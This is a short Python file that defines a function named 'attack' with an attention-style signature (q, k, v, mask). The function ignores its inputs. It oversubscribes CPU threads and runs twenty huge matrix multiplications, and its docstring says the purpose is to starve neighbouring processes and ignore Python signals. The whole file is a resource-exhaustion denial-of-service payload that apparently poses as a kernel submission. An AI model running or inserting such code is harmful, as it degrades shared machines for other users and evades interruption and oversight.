"""Runs large matrix products with as many threads as it can get, to starve the neighbours and to be deaf to Python signals."""
import os, torch
def attack(q, k, v, mask):
    try:
        torch.set_num_threads(4 * (os.cpu_count() or 1))
    except RuntimeError as e:
        print(e)
    a = torch.ones(12000, 12000)
    for _ in range(20):
        a = (a @ a).clamp(max=1.0)
